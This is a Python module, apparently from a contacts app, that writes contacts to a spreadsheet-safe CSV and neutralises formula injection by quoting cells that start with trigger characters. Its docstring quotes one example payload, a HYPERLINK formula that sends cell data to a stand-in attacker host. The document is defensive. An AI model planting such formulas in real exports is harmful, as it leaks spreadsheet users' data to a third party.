"""Contacts as a CSV file that spreadsheets open safely and correctly.

Decisions, and why:

- **One row per contact, every useful field** (see :data:`CSV_COLUMNS`). Dates are ISO
  (``2026-11-26``), which every spreadsheet reads as a date whatever its locale.
- **Several emails, phones or tags in one cell are joined by** ``" ::: "``, the separator
  Google Contacts uses in its own CSV. Commas and semicolons occur inside phone numbers'
  extensions and tags; ``:::`` does not, and netui's CSV reader splits on it.
- **UTF-8 with a byte order mark.** Without the BOM, Excel on Windows reads a CSV in the
  computer's legacy code page and shows "José Müller" as "JosÃ© MÃ¼ller"; with it, Excel,
  LibreOffice, Numbers and Google Sheets all read the text right. Other tools (Python's
  ``utf-8-sig``, pandas, netui's reader) skip the BOM.
- **The csv module with QUOTE_MINIMAL and CRLF row ends** (RFC 4180): a cell is quoted only
  when it holds a comma, a quote or a line break, so notes with several lines stay one cell.
- **Formula injection is neutralised.** A spreadsheet runs a cell that starts with ``=``,
  ``+``, ``-`` or ``@`` as a formula (OWASP adds a leading tab or carriage return,
  which some programs skip before looking): a contact imported from a hostile file could carry
  ``=HYPERLINK("http://evil.example/?"&A2, "Click")`` or a DDE command. Such a cell is
  written with a ``'`` in front, OWASP's recommended fix: a spreadsheet takes the cell as
  text and runs nothing. Excel treats the quote as its "text" marker; some programs
  (LibreOffice, plain-text tools) show it. A visible quote is the accepted price of a file
  that cannot run anything. A cell whose first visible character is a trigger (after
  spaces or line breaks, which some importers trim) is treated the same way.

  This applies to phone numbers too: ``+1 206 555 0100`` becomes ``'+1 206 555 0100``.
  That is deliberate, not only cautious: unquoted, a spreadsheet may read a number
  starting with ``+`` as a formula, and turns ``+15550100`` into the number 15550100,
  losing the plus. With the quote the number stays as typed.

  Only text cells are touched; numbers (strength, Top 20 rank) and dates never start with
  a trigger. This is the one way the CSV differs from the data: it is made for
  spreadsheets. For an exact copy of everything, use the JSON backup.
"""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterable
from datetime import date
from enum import StrEnum
from operator import attrgetter
from typing import Any, TextIO

from netui.domain.contact_fields import FIELD_KINDS, PEOPLE_FIELDS
from netui.domain.record_shape import ValueKind
from netui.domain.types import Contact

__all__ = [
    "CSV_COLUMNS",
    "CSV_FIELDS",
    "CSV_HEADERS",
    "FORMULA_TRIGGERS",
    "MULTI_VALUE_SEPARATOR",
    "contact_row",
    "neutralise",
    "write_csv",
]

#: Each field's column header. Columns follow Contact's field order (PEOPLE_FIELDS: netui's
#: bookkeeping is left out), except that the netui ID comes last, after what people read.
CSV_HEADERS = {
    "id": "netui ID",
    "full_name": "Name",
    "first_name": "First name",
    "last_name": "Last name",
    "company": "Company",
    "title": "Title",
    "emails": "Emails",
    "phones": "Phones",
    "linkedin_url": "LinkedIn",
    "how_we_met": "How we met",
    "notes": "Notes",
    "tags": "Tags",
    "strength": "Strength",
    "status": "Status",
    "top20_rank": "Top 20 rank",
    "last_contacted": "Last contacted",
    "last_contacted_precision": "Last contacted precision",
    "cadence": "Cadence",
    "next_follow_up": "Next follow-up",
    "connected_on": "Date connected",
    "previous_company": "Previous company",
    "previous_title": "Previous title",
    "job_changed_on": "Job changed on",
    "uid": "UID",
}
#: The fields written, in column order.
CSV_FIELDS = (*(name for name in PEOPLE_FIELDS if name != "id"), "id")
#: The header row, in order (a field without a header yet is headed by its own name).
CSV_COLUMNS = tuple(CSV_HEADERS.get(name, name) for name in CSV_FIELDS)

MULTI_VALUE_SEPARATOR = " ::: "

#: Characters that make a spreadsheet read a cell as a formula when they come first.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_TRIMMED = " \t\r\n\x0b\x0c\xa0"

Cell = str | int


_SUSPECT_STARTS = frozenset(FORMULA_TRIGGERS + tuple(_TRIMMED))


def neutralise(cell: str) -> str:
    """``cell`` with a ``'`` in front if a spreadsheet could run it as a formula."""
    if not cell or cell[0] not in _SUSPECT_STARTS:  # most cells: one look at one character
        return cell
    if cell.startswith(FORMULA_TRIGGERS) or cell.lstrip(_TRIMMED).startswith(FORMULA_TRIGGERS[:4]):
        return "'" + cell
    return cell


def _text(value: str | None) -> Cell:
    return neutralise(value or "")


def _list(values: tuple[str, ...]) -> Cell:
    return neutralise(MULTI_VALUE_SEPARATOR.join(values))


def _number(value: int | None) -> Cell:
    return "" if value is None else value


def _choice(value: StrEnum | None) -> Cell:
    return "" if value is None else value.value


def _date(value: date | None) -> Cell:
    return value.isoformat() if value else ""


# Only text cells are neutralised: numbers, choices and dates never start with a trigger.
_CELL: dict[ValueKind, Callable[[Any], Cell]] = {
    ValueKind.TEXT: _text,
    ValueKind.LIST: _list,
    ValueKind.INT: _number,
    ValueKind.CHOICE: _choice,
    ValueKind.DATE: _date,
    ValueKind.MOMENT: _date,
}
_CELLS = tuple(_CELL[FIELD_KINDS[name]] for name in CSV_FIELDS)
_VALUES = attrgetter(*CSV_FIELDS)


def contact_row(contact: Contact) -> list[Cell]:
    """One contact's cells in :data:`CSV_COLUMNS` order, already neutralised."""
    return [cell(value) for cell, value in zip(_CELLS, _VALUES(contact), strict=True)]


def write_csv(contacts: Iterable[Contact], out: TextIO) -> int:
    """Write the BOM, the header and one row per contact to ``out``; returns the rows written.

    ``out`` must be opened with ``newline=""`` (the csv module writes CRLF itself).
    """
    out.write("\ufeff")
    writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow(CSV_COLUMNS)
    count = 0
    for contact in contacts:
        writer.writerow(contact_row(contact))
        count += 1
    return count
